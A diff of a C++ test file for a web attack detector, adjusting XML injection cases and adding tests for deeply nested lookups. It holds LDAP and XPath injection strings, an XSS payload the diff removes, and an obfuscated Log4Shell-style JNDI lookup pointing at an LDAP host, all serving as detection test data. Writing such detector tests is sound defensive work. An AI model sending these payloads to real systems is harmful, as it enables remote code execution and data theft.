@@ -269,10 +269,9 @@ TEST_CASE("web attacks: xxe, ssti, php, ldap and xml injection") {
     all_are("ldap injection", {"/login?user=*)(uid=*))(|(uid=*&pass=x",
                                "/search?name=*)(|(objectclass=*)", "/people?cn=admin)(!(%26(1=0"});
 
-    all_are("xml injection",
-            {"/user?name=x%27%20or%20count(/*)%3D1%20or%20%27",
-             "/q?id=1%20and%20string-length(name(/*[1]))%3D5", "/books?title=x%27%5D/text()%3D%27",
-             "/q?x=%3C!%5BCDATA%5B%3Cscript%3Ealert(1)%3C/script%3E%5D%5D%3E"});
+    all_are("xml injection", {"/user?name=x%27%20or%20count(/*)%3D1%20or%20%27",
+                              "/q?id=1%20and%20string-length(name(/*[1]))%3D5",
+                              "/books?title=x%27%5D/text()%3D%27"});
 }
 
 TEST_CASE("web attacks: directory traversal and config file access") {
@@ -388,4 +387,22 @@ TEST_CASE("web attacks: matchers on several threads share the patterns") {
         thread.join();
     }
     CHECK(hits == std::vector<int>(4, 500));
+}
+
+TEST_CASE(
+    "web attacks: thousands of nested lookups are read in bounded time, shallow ones resolved") {
+    WebAttackMatcher matcher(std::make_shared<const WebAttackPatterns>());
+    std::string nested;
+    for (int i = 0; i < 5000; ++i) {
+        nested += "${";
+    }
+    nested += "x";
+    for (int i = 0; i < 5000; ++i) {
+        nested += "}";
+    }
+    CHECK_FALSE(matcher.find("/?a=" + nested, "", "").has_value());
+    // Obfuscation nests a few levels: still resolved.
+    CHECK(
+        matcher.find("/?a=${${${::-j}${::-n}${lower:${upper:d}}${::-i}:ldap://10.0.0.1/a}", "", "")
+            ->family == "remote code execution");
 }
